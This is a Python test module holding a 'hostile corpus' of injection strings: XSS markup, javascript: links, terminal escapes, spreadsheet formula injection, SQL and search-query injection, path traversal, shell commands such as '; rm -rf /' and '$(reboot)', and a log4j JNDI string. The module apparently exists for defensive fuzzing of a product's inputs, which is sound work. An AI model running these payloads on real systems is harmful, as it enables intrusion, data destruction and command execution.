"""The hostile corpus: what a file, an upstream, a user or an enemy may hand to any door of the product.

All doors are tried on all of it. `TEXTS` has the classes of text by name and `HOSTILE` all of them in one list;
`ODD_VALUES` are what may stand where a field of JSON is read, and `LINES` what may stand where a line or a body is. A
new kind of harm is added here, and every test that uses the corpus tries it.

CANARY in a text is a server that must not be asked.
"""

from typing import Any

# What a browser would run, load or follow.
MARKUP = [
    "<script>alert(1)</script>",
    "<script src=CANARY/script></script>",
    "<img src=CANARY/img onerror=alert(1)>",
    "<img src=x onerror=fetch('CANARY/onerror')>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</code></pre><iframe src=CANARY/frame>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=CANARY/video autoplay>",
    "<object data=CANARY/object>",
    "<embed src=CANARY/embed>",
    "<link rel=stylesheet href=CANARY/css>",
    "<link rel=prefetch href=CANARY/prefetch>",
    "<style>@import 'CANARY/import';</style>",
    "<div style=\"background:url('CANARY/url')\">",
    "<base href=CANARY/>",
    "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "<form action=CANARY/form><button autofocus onfocus=this.click()>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><use href=CANARY/use></svg>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>",
    "<!-- x -->",
    "<![CDATA[x]]>",
    "<?php x?>",
    "<!doctype html><html>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7*7 }}{% raw %}${7*7}",
]

# What a Markdown renderer would make a link, a picture, a table or a heading of, and what ends our own fences.
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "![x](CANARY/image.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '<http://a.b/" onclick="x>',
    '[a](http://x "t\\" onmouseover=\\"y")',
    '```"><b>\nx\n```',
    "```html onload=x\n<b>\n```",
    "| a | b |\n|---|:-:|\n| <b> | x |",
    "[a]: javascript:x\n\n[a]",
    "[![a](CANARY/inner)](http://d)",
    "# h\n## h2",
    "- [ ] x\n1. y",
    "---",
    "```\nnever closed",
    "~~~~ x\n```",
    "- a\n  ```\n  b",
    "````",
    "a\\\nb",
    "a  \nb",
]

# What drives a terminal, turns the text around, or is no character at all.
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1bP0;1|17/ab\x1b\\",
    "\x1b[99999999999999999999m",
    "\x9b31m",
    "\u202etxt",
    "\u2066x",
    "\udcff",
    "a\0b",
    "a\r\nb\rc",
    "a\x08\x08b\x7f",
    "hi\U000e0041",
    "a\u2028b\x85c",
]

# What a spreadsheet would calculate.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("CANARY/formula","x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]
# What means something to a database, to its search, or to ours.
_SQL = """
' OR 1=1 --|' OR '1'='1|"; DROP TABLE sessions; --|1; ATTACH DATABASE '/tmp/x' AS x|') UNION SELECT * FROM texts --
%|_|%%|\\|\\\\|'|''|"|\"\"|\"\"\"|;|--|/*|*/|#|`|``|[|]|()|(|)|{}|{|}|=|==|<>|!=|<|>|&&| || |^|~|!|?|?1|:a|@a|$a
NULL|null|TRUE|1=1|0|-1|1e999|0x10|x'00'|randomblob(1000000000)|load_extension('x')|sqlite_master|PRAGMA user_version
"""
_FTS = """
AND|OR|NOT|NEAR|AND AND|OR OR|a AND|AND a|a OR|OR a|a NOT|NOT a|a NOT b|a OR b|NEAR(a b)|NEAR(a b, 5)|NEAR(|a NEAR/2 b
*|**|a*|*a|a**|"a*"|"a"*|"a" *|^a|^|a ^ b|a + b|+|a +|-a|-|text:a|text : a|{text tool}:a|{text}: a|- text : a|-{text}:a
rowid:1|rank|rank:1|words_1|words_1:a|bm25(words_1)|match|a MATCH b|:|::|a:|:a|a:b|a:b:c|"a|a"|"a b|"a" "b|'a' "b"|"" a
tool:|file:|is:|project:|agent:|tool:""|file:"|is:error is:error|is:nothing|tool:*|file:*|tool:"a b"*|project:%|agent:'
tool:tool:tool:|tool:"OR 1=1"|file:../../etc/passwd|file:/|is:error OR is:error|(is:error)|tool:(a|b)|http://a.b/c?d=e&f
"""
_MORE = """
a;b|a--b|a/*b*/c|'a'||'b'|char(97)|CAST(1 AS TEXT)|SELECT 1|DELETE FROM texts|UPDATE texts SET kind=9
VACUUM INTO '/tmp/y'
EXPLAIN a|a LIKE '%'|a GLOB '*'|a IN (1)|a BETWEEN 1 AND 2|CASE WHEN 1 THEN 2 END|a COLLATE NOCASE|a ISNULL
EXISTS(SELECT 1)
json_each('[1]')|json('{')|$.a|@@version|WAITFOR DELAY '0:0:5'|SLEEP(5)|pg_sleep(5)|EXEC xp_cmdshell|a%27b
BENCHMARK(1,1)
""".replace("||", "!!")
QUERIES = [query for text in (_SQL, _FTS, _MORE) for line in text.strip().split("\n") for query in line.split("|")]
# What means something to a file system or to a shell, as an id, a name or a path.
NAMES = [
    *("", ".", "..", "...", "/", "//", "~", "~root", "~/secret", "-", "--", "-n", "-rf", "--help", "*", "?", "[a]"),
    *("{a,b}", "\\", "a\\b", "..\\..\\x", "a/b", "a\nb", "a\rb", "a\tb", "\t", " ", "'", '"', "0", "CON", "nul.jsonl"),
    *(f"{'../' * depth}{name}" for depth in range(1, 6) for name in ("etc/x", "up", "outside/secret", "")),
    *("../../../../../../etc/passwd", "/etc/passwd", "./././secret", "%2e%2e%2f", "%00", "file:///etc/passwd"),
    *("projects/-p/../../../outside/secret", "outside/secret", "secret", "secret.jsonl", "x.jsonl~1", "a.jsonl.live"),
    *("agent-", "link", "link/x", "memory", "MEMORY", "tool-results", "subagents", "sessions-index.json", "a.jsonl"),
    *("a.p2", "a.bodies", ".git", ".gitignore", ".folder", "$HOME", "$HOME/x", "$(reboot)", "`reboot`", "`id`"),
    *("| cat", "; rm -rf /", "| rm -rf /", "&& true", "a;b", "a|b", "\u202egpj", "\u2028", "\ufeff"),
    *("\x1b]0;owned\x07", "é\udcff"),
]  # fmt: skip
# What means something to a format, a template or a logging library, and the letters of others.
WORDS = [
    *("%s%s%s%n", "{0.__class__}", "${jndi:ldap://x}", "__proto__", "constructor", "NaN", "null", "undefined", "[red]"),
    *("[/]", "{{7*7}}", "\t\n", "\0", '"\0', "é", "e\u0301", "ΣΑΣ", "ıİ", "日本語", "🙂", "👨\u200d👩\u200d👧"),
    *("ﷺ", "\u0345" * 50, "\ud800", "a\udfffb", "\udcff"),
]  # fmt: skip
# What takes long if the work grows faster than the text.
LONG = [
    "a" * 100_000,
    "x" * 300,
    "é" * 200,
    " ".join(f"word{number}" for number in range(5_000)),
    '"' * 5_000,
    "(" * 5_000,
    "[" * 5_000,
    "*" * 5_000,
    "`" * 5_000,
    "> " * 2_000,
    "-" * 5_000,
    "\n" * 5_000,
    "\x1b[" * 2_000,
    "a AND " * 5_000,
    "NEAR(" * 2_000,
    "tool:a " * 2_000,
    "<b>" * 2_000,
]
TEXTS = {
    "markup": MARKUP,
    "Markdown": MARKDOWN,
    "terminal": TERMINAL,
    "formulas": FORMULAS,
    "queries": QUERIES,
    "names": NAMES,
    "words": WORDS,
    "long": LONG,
}
HOSTILE = list(dict.fromkeys(text for texts in TEXTS.values() for text in texts))
SHORT = [text for text in HOSTILE if len(text) < 1000]  # where they are joined, or each takes a while


def name_of(text: str) -> str:
    """Return the id of the test of a text."""
    return ascii(text)[1:40]


ODD_VALUES: list[Any] = [
    *(None, True, False, 0, -1, 1 << 63, 1 << 70, 10**40, 1.5, -0.0, float("nan"), float("inf"), 1e308),
    *("", "x", "5", "2026-11-15T07:13:47Z", "99999-01-01T00:00:00Z", "\ud800", "a\0b", "{", '{"a":1}', "[" * 500),
    *([], {}, [[]], [{}], [None], [5], {"": ""}, {"type": "x"}, {"type": None}, {"0": {"1": {"2": []}}}),
]  # fmt: skip

LINES = {
    "nothing": b"",
    "blanks": b"   ",
    "not JSON": b"not JSON at all",
    "NUL": b"\0" * 4096,
    "not UTF-8": b'{"type":"user","message":"caf\xe9 \xff\xfe"}',
    "not UTF-8 in a key": b'{"\xff":1}',
    "UTF-16": '{"type":"user"}'.encode("utf-16"),
    "overlong": b'{"type":"\xc0\xaf\xe0\x80\xaf"}',
    "BOM": b'\xef\xbb\xbf{"type":"user"}',
    "CR": b"\r",
    "CR at the end": b'{"type":"user"}\r',
    "cut": b'{"type":"assistant","message":{"id":"msg_torn","usa',
    "without its beginning": b'"a":1}',
    "two in one line": b'{"type":"user"}{"type":"user"}',
    "brackets": b"[" * 100_000,
    "braces": b'{"a":' * 100_000,
    "deep and whole": b"[" * 5_000 + b"]" * 5_000,
    "a number": b"5",
    "a text": b'"x"',
    "null": b"null",
    "a list": b"[1]",
    "an object": b"{}",
    "NaN": b'{"type":"user","message":NaN}',
    "infinity": b'{"type":"user","n":-Infinity}',
    "beyond a double": b'{"type":"user","n":1e999}',
    "2^70": b'{"type":"user","n":%d}' % 2**70,
    "a number without end": b'{"type":"user","n":' + b"9" * 5_000 + b"}",
    "half a character": b'{"type":"user","message":{"content":"\\ud800 half"}}',
    "U+2028": '{"type":"user","message":{"content":"\u2028\u0085"}}'.encode(),
    "a control character": b'{"type":"user","message":"\x01"}',
    "a key twice": b'{"type":"user","type":"assistant","message":1,"message":{}}',
    "numeric keys": b'{"0":{"1":{"2":[]}},"type":"user"}',
    "one in a list in a list": b"[[{}]]",
    "glued": b'{"a":1}{"b":2',
    "a version alone": b'{"v":1}',
    "an unknown version": b'{"type":"exchange","v":99}',
    "a version that is none": b'{"type":"exchange","v":"x"}',
    "a type that is none": b'{"type":{"a":1},"v":1}',
}
